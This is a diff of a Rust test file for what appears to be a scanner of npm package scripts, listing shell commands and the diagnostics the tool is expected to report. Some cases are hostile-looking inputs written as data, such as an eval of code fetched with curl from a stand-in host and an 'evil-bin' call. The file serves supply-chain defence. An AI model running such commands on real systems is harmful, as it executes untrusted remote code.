@@ -108,7 +108,8 @@ fn what_cannot_be_known_is_said(#[case] script: &str, #[case] files: &[(&str, &s
 #[case::sourced(". ./$X", "./$X is known only when it runs")]
 #[case::evaluated("eval $X", "$X is known only when it runs")]
 #[case::evaluated_fetch("eval `curl -s https://a.invalid/x`", "eval runs code that is fetched")]
-#[case::piped_unknown("cat name | node", "node runs code that is known only when it runs")]
+#[case::piped_file("cat name | node", "./name is not in the package")]
+#[case::piped_unknown("gpg -d name | node", "node runs code that is known only when it runs")]
 #[case::script("npm run nothing", "nothing is not a script of package.json")]
 #[case::runs_other("evil-bin --now", "evil-bin is code of another package")]
 #[case::husky("husky install", "husky is code of another package")]
@@ -120,10 +121,7 @@ fn what_cannot_be_known_is_said(#[case] script: &str, #[case] files: &[(&str, &s
 #[case::scripts("run-s nothing", "nothing is not a script of package.json")]
 #[case::folder("npm i ./local", "./local is installed, and its own scripts run")]
 #[case::names("ls | xargs node", "node runs code that is known only when it runs: xargs node")]
-#[case::found(
-    "find . -name a -exec node {} ;",
-    "node runs code that is known only when it runs: find . -name a -exec node {}"
-)]
+#[case::found("find . -name a -exec node {} ;", "find . -name a -exec node {} ; is known only when it runs")]
 #[case::module("python3 -m other_pkg", "other_pkg is code of another package")]
 #[case::no_file("node gone", "./gone is not in the package")]
 #[case::no_program("./gone", "./gone is not in the package")]
